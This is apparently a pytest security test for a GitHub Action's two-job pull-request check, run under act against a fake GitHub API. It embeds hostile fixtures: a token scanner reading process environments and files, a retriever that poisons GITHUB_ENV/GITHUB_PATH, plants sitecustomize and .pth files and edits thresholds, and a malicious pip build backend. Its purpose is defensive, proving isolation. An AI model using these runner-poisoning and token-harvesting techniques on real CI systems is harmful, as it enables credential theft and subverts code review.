"""The two-job PR check under act, against a pull request that would rather pass.

``examples/workflows/pr-check.yml`` (the README's workflow) is copied as it is into a
consumer repository whose pull request loses the German docs — a hit@k regression
the base branch's tolerance fails — and whose code tries every trick that passed the
one-step check (issue: "the pull request's code never runs where the verdict is
made"):

(i)   the retriever patches recall-gate in-process (every metric 1.0, no regression);
(ii)  it writes ``BASH_ENV`` and ``PATH`` into ``$GITHUB_ENV`` and a folder of fake
      ``python3`` / ``uv`` / ``recall-gate`` into ``$GITHUB_PATH``;
(iii) it writes a ``.pth`` file and ``sitecustomize.py`` into the environment it runs
      in, and lowers the baseline, the config and the cases in the work tree;
(iv)  ``requirements.txt`` lists a local package whose build backend reads every
      environment variable, process command line and environment, and file it can.

Every piece of that code records the GitHub tokens it can find (``gh?_…``) in
``$SPY_OUT``. The job must still fail, the one sticky comment must say fail and name
the lost cases, and no record may hold the token. The token reaches act through a
secret file removed once act has read it (``run_act(secret_file=True)``), so nothing
on the machine but act's memory holds it while the jobs run — as on GitHub, where
the judge job runs on another machine than the capture job.
"""

from __future__ import annotations

import io
import json
import secrets
import shutil
import sys
from pathlib import Path

import pytest

from act_harness import REPO, ROOT, ActRun, git, pr_event, run_act
from fake_github import BOT_LOGIN, TOKEN, FakeGitHub

pytestmark = [pytest.mark.act, pytest.mark.timeout(1800)]

EXAMPLE = ROOT / "examples" / "workflows" / "pr-check.yml"
MARKER = "<!-- recall-gate:default -->"

# Finds what a token looks like anywhere; writes what it found to $SPY_OUT/<tag>-<pid>.json.
SPY = r"""
import json as _json, os as _os, re as _re
from pathlib import Path as _Path

_TOKENS = _re.compile(rb"gh[pousr]_[A-Za-z0-9_-]{8,}")


def spy(tag):
    found = {}

    def look(where, data):
        for match in _TOKENS.findall(data):
            found.setdefault(match.decode(), []).append(where)

    look("os.environ", "\n".join(f"{k}={v}" for k, v in _os.environ.items()).encode())
    for proc in _Path("/proc").iterdir():
        if proc.name.isdigit():
            for part in ("cmdline", "environ"):
                try:
                    look(f"/proc/{proc.name}/{part}", (proc / part).read_bytes())
                except OSError:
                    pass
    roots = {_os.environ.get(n) for n in ("HOME", "GITHUB_WORKSPACE", "RUNNER_TEMP",
                                          "GITHUB_ACTION_PATH", "SPY_SCRATCH")}
    roots |= {str(_Path(_os.environ[n]).parent) for n in
              ("GITHUB_ENV", "GITHUB_OUTPUT", "GITHUB_EVENT_PATH") if _os.environ.get(n)}
    for root in sorted(filter(None, roots)):
        for folder, _dirs, files in _os.walk(root):
            for name in files:
                path = _os.path.join(folder, name)
                try:
                    if _os.path.getsize(path) < 20_000_000:
                        look(path, _Path(path).read_bytes())
                except OSError:
                    pass
    out = _Path(_os.environ["SPY_OUT"])
    out.mkdir(parents=True, exist_ok=True)
    (out / f"{tag}-{_os.getpid()}.json").write_text(_json.dumps(found))
"""

HOSTILE_RAG = (
    '"""The pull request\'s retriever: it lost the German docs, and it would rather pass."""\n'
    + SPY
    + r"""
import os
import site
import sys
from pathlib import Path

DOCS = Path(__file__).resolve().parent.parent / "docs"
SKIP = ("de/",)

spy("retriever")

# (i) recall-gate patched in this process: every metric perfect, no regression found.
import recall_gate.core.gate as _gate
import recall_gate.core.metrics as _metrics

_metrics.score_ranking = lambda *a, **k: {"hit": 1.0, "recall": 1.0, "ndcg": 1.0}
_gate.find_regressions = lambda *a, **k: ()

# (ii) the runner steered through the files it reads between steps.
evil = Path(os.environ["SPY_OUT"]) / "evil"
(evil / "bin").mkdir(parents=True, exist_ok=True)
(evil / "bash_env.sh").write_text(
    'echo "BASH_ENV ran in job ${GITHUB_JOB:-?}" >> "$SPY_OUT/bash_env.log"\n'
)
for tool in ("python3", "uv", "recall-gate", "git"):
    (evil / "bin" / tool).write_text(
        f'#!/bin/sh\necho "fake {tool} ran in job ${{GITHUB_JOB:-?}}"'
        ' >> "$SPY_OUT/fake_tools.log"\nexit 0\n'
    )
    (evil / "bin" / tool).chmod(0o755)
with open(os.environ["GITHUB_ENV"], "a") as env:
    env.write(f"BASH_ENV={evil / 'bash_env.sh'}\nPATH={evil / 'bin'}:{os.environ['PATH']}\n")
with open(os.environ["GITHUB_PATH"], "a") as path:
    path.write(f"{evil / 'bin'}\n")

# (iii) the environment it runs in, and the work tree, edited.
for folder in site.getsitepackages():
    try:
        Path(folder, "zz_recall_gate_pass.pth").write_text("import sitecustomize\n")
        Path(folder, "sitecustomize.py").write_text(
            "import recall_gate.core.gate as g\ng.find_regressions = lambda *a, **k: ()\n"
        )
    except OSError:
        pass
work = Path(os.environ.get("GITHUB_WORKSPACE", "."))
for name in ("recall-gate.yaml", "baselines/default.json", "evals/cases.yaml"):
    target = work / name
    if target.exists():
        target.write_text(target.read_text().replace("max_regression: 0.05", "max_regression: 1"))


def build_retriever():
    pages = [
        (path.relative_to(DOCS).with_suffix("").as_posix(), set(path.read_text().lower().split()))
        for path in sorted(DOCS.rglob("*.md"))
        if not path.relative_to(DOCS).as_posix().startswith(SKIP)
    ]

    def search(query, k):
        words = set(query.lower().split())
        ranked = sorted(pages, key=lambda page: (-len(words & page[1]), page[0]))
        return [card for card, _ in ranked[:k]]

    return search
"""
)

# (iv) a local package whose in-tree build backend looks for tokens while pip builds it.
EVIL_BACKEND = (
    SPY
    + r"""
import base64, hashlib, zipfile

NAME, VERSION = "evilpkg", "0.1"


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    spy("build")
    name = f"{NAME}-{VERSION}-py3-none-any.whl"
    files = {
        f"{NAME}/__init__.py": b"",
        f"{NAME}-{VERSION}.dist-info/METADATA": (
            f"Metadata-Version: 2.1\nName: {NAME}\nVersion: {VERSION}\n".encode()
        ),
        f"{NAME}-{VERSION}.dist-info/WHEEL": (
            b"Wheel-Version: 1.0\nGenerator: evil\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        ),
    }
    record = []
    with zipfile.ZipFile(_os.path.join(wheel_directory, name), "w") as wheel:
        for path, data in files.items():
            wheel.writestr(path, data)
            digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=")
            record.append(f"{path},sha256={digest.decode()},{len(data)}")
        record.append(f"{NAME}-{VERSION}.dist-info/RECORD,,")
        wheel.writestr(f"{NAME}-{VERSION}.dist-info/RECORD", "\n".join(record) + "\n")
    return name
"""
)

CONFIG = """\
# Synthetic evaluation (an invented shop), k and a tolerance the PR must not escape.
kb: docs
cases: evals/cases.yaml
k: 3
queries: evals/queries.jsonl  # the logged queries: the traffic diff in the judge's comment
capture:
  retriever: app.rag:build_retriever
gate:
  max_regression: 0.05
  min_group_n: 5
  # 8 cases: too few for a drop of 2 hits to test as likely real, so the tolerance
  # holds within noise (the PR's capture loses 2 hits and must fail).
  require_significance: false
"""

# Synthetic logged queries (invented shop traffic), as a team would export them.
QUERY_LOG = "".join(
    f'{{"id": "q{i}", "query": "{q}", "weight": {w}}}\n'
    for i, (q, w) in enumerate(
        [
            ("how do I return an item", 40),
            ("shipping times to germany", 25),
            ("wie lange dauert der versand", 12),
            ("rückgabe eines artikels", 9),
            ("change my delivery address", 6),
        ]
    )
)

BASE_RAG = """\
\"\"\"The app's retriever (synthetic docs): word overlap, nothing to install.\"\"\"

from pathlib import Path

DOCS = Path(__file__).resolve().parent.parent / "docs"


def build_retriever():
    pages = [
        (path.relative_to(DOCS).with_suffix("").as_posix(), set(path.read_text().lower().split()))
        for path in sorted(DOCS.rglob("*.md"))
    ]

    def search(query, k):
        words = set(query.lower().split())
        ranked = sorted(pages, key=lambda page: (-len(words & page[1]), page[0]))
        return [card for card, _ in ranked[:k]]

    return search
"""


def _shop(root: Path) -> Path:
    """The consumer: docs, cases, config, a retriever, the example workflow, and a
    baseline captured on main with the honest retriever."""
    from recall_gate.cli import main as recall_gate

    app = root / "shop"
    shutil.copytree(ROOT / "examples" / "data" / "docs", app / "docs")
    (app / "evals").mkdir()
    shutil.copy(ROOT / "examples" / "data" / "cases.yaml", app / "evals" / "cases.yaml")
    (app / "evals" / "queries.jsonl").write_text(QUERY_LOG, encoding="utf-8")
    (app / "app").mkdir()
    (app / "app" / "__init__.py").write_text("", encoding="utf-8")
    (app / "app" / "rag.py").write_text(BASE_RAG, encoding="utf-8")
    (app / "requirements.txt").write_text("# nothing beyond recall-gate\n", encoding="utf-8")
    (app / "recall-gate.yaml").write_text(CONFIG, encoding="utf-8")
    workflow = app / ".github" / "workflows" / "retrieval-eval.yml"
    workflow.parent.mkdir(parents=True)
    shutil.copy(EXAMPLE, workflow)
    for module in ("app", "app.rag"):
        sys.modules.pop(module, None)
    results = root / "v1.json"
    out, err = io.StringIO(), io.StringIO()
    assert recall_gate(["capture", "--out", str(root / "c.jsonl"), "--json", str(results),
                        "--no-gate"], {}, stdout=out, stderr=err, cwd=app) == 0  # fmt: skip
    assert recall_gate(["baseline", "update", "--results", str(results), "--reason", "v1",
                        "--queries-snapshot", str(root / "c.queries.jsonl"),
                        "--created-at", "2026-01-01T00:00:00Z", "--git-sha", "a" * 40],
                       {}, stdout=out, stderr=err, cwd=app) == 0  # fmt: skip
    for module in ("app", "app.rag"):
        sys.modules.pop(module, None)
    git(app, "init", "-q", "-b", "main")
    git(app, "remote", "add", "origin", f"https://github.com/{REPO}.git")
    git(app, "add", "-A")
    git(app, "commit", "-q", "-m", "base")
    return app


def _make_hostile(app: Path) -> None:
    (app / "app" / "rag.py").write_text(HOSTILE_RAG, encoding="utf-8")
    evil = app / "evilpkg"
    evil.mkdir()
    (evil / "backend.py").write_text(EVIL_BACKEND, encoding="utf-8")
    (evil / "pyproject.toml").write_text(
        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
        '[project]\nname = "evilpkg"\nversion = "0.1"\n',
        encoding="utf-8",
    )
    (app / "requirements.txt").write_text("./evilpkg\n", encoding="utf-8")
    git(app, "add", "-A")
    git(app, "commit", "-q", "-m", "A faster retriever")


def _job_results(events: list[dict[str, object]]) -> dict[str, str]:
    return {
        str(e["jobID"]): str(e["jobResult"]) for e in events if "jobResult" in e and "jobID" in e
    }


def test_a_hostile_pull_request_fails_the_two_job_check_and_never_sees_the_token(
    tmp_path: Path, fake_github: FakeGitHub, action_release: Path
) -> None:
    app = _shop(tmp_path)
    base_sha = git(app, "rev-parse", "HEAD")
    _make_hostile(app)
    head_sha = git(app, "rev-parse", "HEAD")
    scratch, spy_out, home = tmp_path / "scratch", tmp_path / "spy", tmp_path / "home"
    for folder in (scratch / "artifacts", spy_out, home):
        folder.mkdir(parents=True)
    fake_github.add_repo(REPO)
    number = fake_github.add_pull(REPO, head_sha=head_sha)
    # This run's own workflow token: other act runs on the machine (parallel tests) hold
    # the shared one on their command lines, which any process may read.
    token = f"ghs_hostile-pr-run-{secrets.token_hex(8)}"
    fake_github.add_actions_token(token)

    run = run_act(
        app,
        "pull_request",
        workflow=".github/workflows/retrieval-eval.yml",
        event=pr_event(number, head_sha, base_sha=base_sha),
        scratch=scratch,
        api_url=fake_github.url,
        token=token,
        env={
            # The capture job's environment is made by the action (not this venv).
            "RECALL_GATE_VENV": "",
            "HOME": str(home),
            "ACT_STUB_ARTIFACTS": str(scratch / "artifacts"),
            "SPY_OUT": str(spy_out),
            "SPY_SCRATCH": str(scratch),
            "HF_HUB_OFFLINE": "1",
        },
        extra=["--local-repository", f"recall-gate/recall-gate@v0={action_release}"],
        secret_file=True,
    )

    # The capture ran the hostile code (every trick left its record) and did not fail;
    # the judge failed the run.
    records = sorted(spy_out.glob("*.json"))
    tags = {p.name.split("-")[0] for p in records}
    assert {"build", "retriever"} <= tags, (tags, run.text[-6000:])
    assert _job_results(run.events) == {"capture": "success", "judge": "failure"}, run.text[-8000:]
    assert run.returncode != 0
    # One sticky comment, by the bot: fail, with the lost German cases named.
    comments = [c for c in fake_github.comments(REPO, number) if c.body.startswith(MARKER)]
    assert len(comments) == 1
    [comment] = comments
    assert comment.login == BOT_LOGIN
    assert "**fail**" in comment.body
    assert "de-returns" in comment.body
    assert "de-shipping" in comment.body
    # The capture job uploaded the answers to the query log beside the capture, so
    # the judge compared them with the base's snapshot.
    uploaded = sorted(p.name for p in (scratch / "artifacts" / "recall-gate-capture").iterdir())
    assert uploaded == ["capture.jsonl", "capture.queries.jsonl"], uploaded
    assert "Query traffic:" in comment.body
    # No record of any code of the pull request holds the token.
    seen = {token: where for p in records for token, where in json.loads(p.read_text()).items()}
    assert token not in seen, seen[token][:5] if token in seen else None
    # What the capture job wrote for the runner stayed in the capture job.
    for log in ("bash_env.log", "fake_tools.log"):
        ran = (spy_out / log).read_text() if (spy_out / log).exists() else ""
        assert "job judge" not in ran, ran
    assert token not in run.step_output
    assert not (scratch / "secrets.env").exists()


def test_the_one_step_capture_on_a_pull_request_without_the_opt_in_exits_2_naming_two_jobs(
    tmp_path: Path, fake_github: FakeGitHub, action_release: Path
) -> None:
    app = _shop(tmp_path)
    base_sha = git(app, "rev-parse", "HEAD")
    one_step = (ROOT / "examples" / "workflows" / "one-step.yml").read_text(encoding="utf-8")
    assert "trust-pr-code: true" in one_step  # the example opts in, and says when to
    workflow = app / ".github" / "workflows" / "retrieval-eval.yml"
    workflow.write_text(one_step.replace("trust-pr-code: true", "trust-pr-code: false"))
    git(app, "commit", "-q", "-am", "one step")
    head_sha = git(app, "rev-parse", "HEAD")
    scratch = tmp_path / "scratch"
    (scratch / "artifacts").mkdir(parents=True)
    fake_github.add_repo(REPO)
    number = fake_github.add_pull(REPO, head_sha=head_sha)

    run = run_act(
        app,
        "pull_request",
        workflow=".github/workflows/retrieval-eval.yml",
        event=pr_event(number, head_sha, base_sha=base_sha),
        scratch=scratch,
        api_url=fake_github.url,
        token=TOKEN,
        env={"RECALL_GATE_VENV": sys.prefix, "ACT_STUB_ARTIFACTS": str(scratch / "artifacts")},
        extra=["--local-repository", f"recall-gate/recall-gate@v0={action_release}"],
    )

    assert run.job_result == "failure", run.text[-4000:]
    [error] = [e for e in run.annotations("error") if "trust-pr-code" in e]
    assert "two-job PR check" in error
    assert "Install recall-gate" not in {
        str(e.get("step")) for e in run.events if e.get("stepResult") == "success"
    }
    assert fake_github.comments(REPO, number) == []


def test_on_a_runner_that_keeps_environments_a_poisoning_pr_cannot_pass_a_later_one(
    tmp_path: Path, fake_github: FakeGitHub, action_release: Path
) -> None:
    """A self-hosted runner keeps the capture environment between jobs (one HOME). A
    first pull request writes a `.pth` file and `sitecustomize.py` into it; a second,
    unrelated one regresses honestly. The kept environment is found changed and made
    anew, the judge is new anyway, and the second pull request fails."""
    app = _shop(tmp_path)
    base_sha = git(app, "rev-parse", "HEAD")
    home = tmp_path / "home"
    spy_out = tmp_path / "spy"
    home.mkdir()
    fake_github.add_repo(REPO)

    def pull_request(head_sha: str, name: str) -> tuple[ActRun, int]:
        scratch = tmp_path / f"scratch-{name}"
        (scratch / "artifacts").mkdir(parents=True)
        number = fake_github.add_pull(REPO, head_sha=head_sha)
        run = run_act(
            app,
            "pull_request",
            workflow=".github/workflows/retrieval-eval.yml",
            event=pr_event(number, head_sha, base_sha=base_sha),
            scratch=scratch,
            api_url=fake_github.url,
            token=TOKEN,
            env={
                "RECALL_GATE_VENV": "",  # the action's default location, under HOME
                "HOME": str(home),
                "ACT_STUB_ARTIFACTS": str(scratch / "artifacts"),
                "SPY_OUT": str(spy_out),
                "HF_HUB_OFFLINE": "1",
            },
            extra=["--local-repository", f"recall-gate/recall-gate@v0={action_release}"],
        )
        return run, number

    # The poisoning pull request: its retriever writes into the environment it runs in.
    (app / "app" / "rag.py").write_text(HOSTILE_RAG.replace('SKIP = ("de/",)', "SKIP = ()"))
    git(app, "commit", "-q", "-am", "PR 1: tidy the retriever")
    first, _ = pull_request(git(app, "rev-parse", "HEAD"), "poison")
    kept = sorted((home / ".cache" / "recall-gate").glob("venv-*"))
    assert kept, first.text[-4000:]
    assert sorted(kept[0].glob("lib/python3*/site-packages/zz_recall_gate_pass.pth"))

    # A later, unrelated pull request from the base: loses the German docs, honestly.
    git(app, "checkout", "-q", "-b", "pr-2", base_sha)
    rag = app / "app" / "rag.py"
    rag.write_text(
        rag.read_text().replace(
            'for path in sorted(DOCS.rglob("*.md"))\n    ]',
            'for path in sorted(DOCS.rglob("*.md"))\n'
            '        if not path.relative_to(DOCS).as_posix().startswith("de/")\n    ]',
        )
    )
    git(app, "commit", "-q", "-am", "PR 2: a smaller index")
    second, number = pull_request(git(app, "rev-parse", "HEAD"), "later")

    assert _job_results(second.events) == {"capture": "success", "judge": "failure"}, second.text[
        -6000:
    ]
    assert any("changed since it was made" in w for w in second.annotations("warning"))
    [comment] = [c for c in fake_github.comments(REPO, number) if c.body.startswith(MARKER)]
    assert "**fail**" in comment.body
    assert "de-returns" in comment.body


FAILING_RAG = (
    BASE_RAG
    + '''

class PipelineRuntimeError(RuntimeError):
    """What a pipeline framework raises on a query it refuses."""


_honest = build_retriever


def build_retriever():
    search = _honest()

    def refusing(query, k):
        if "Versand" in query:
            raise PipelineRuntimeError("Query should be a non-empty string")
        return search(query, k)

    return refusing
'''
)


def test_the_capture_failure_reaches_the_reviewer_with_its_case_and_no_runner_path(
    tmp_path: Path, fake_github: FakeGitHub, action_release: Path
) -> None:
    """The README's two-job check, with a retriever that raises on one case: the
    capture job fails and hands over only its error; the judge's comment quotes the
    case and the exception, and names no folder of the runner."""
    app = _shop(tmp_path)
    base_sha = git(app, "rev-parse", "HEAD")
    (app / "app" / "rag.py").write_text(FAILING_RAG, encoding="utf-8")
    git(app, "commit", "-q", "-am", "A retriever that refuses a query")
    head_sha = git(app, "rev-parse", "HEAD")
    scratch = tmp_path / "scratch"
    (scratch / "artifacts").mkdir(parents=True)
    fake_github.add_repo(REPO)
    number = fake_github.add_pull(REPO, head_sha=head_sha)

    run = run_act(
        app,
        "pull_request",
        workflow=".github/workflows/retrieval-eval.yml",
        event=pr_event(number, head_sha, base_sha=base_sha),
        scratch=scratch,
        api_url=fake_github.url,
        token=TOKEN,
        env={
            "RECALL_GATE_VENV": "",
            "ACT_STUB_ARTIFACTS": str(scratch / "artifacts"),
            "HF_HUB_OFFLINE": "1",
        },
        extra=["--local-repository", f"recall-gate/recall-gate@v0={action_release}"],
    )

    assert _job_results(run.events) == {"capture": "failure", "judge": "failure"}, run.text[-8000:]
    uploaded = sorted(p.name for p in (scratch / "artifacts" / "recall-gate-capture").iterdir())
    assert uploaded == ["capture.error.json"], uploaded
    [comment] = [c for c in fake_github.comments(REPO, number) if c.body.startswith(MARKER)]
    assert "**error**" in comment.body
    plain = comment.body.replace("\\", "")  # as the reader sees the escaped Markdown
    assert (
        "the capture failed on case de-shipping: PipelineRuntimeError: Query should be a "
        "non-empty string" in plain
    ), comment.body
    for folder in (str(tmp_path), "_temp", "/home/"):
        assert folder not in plain, (folder, comment.body)
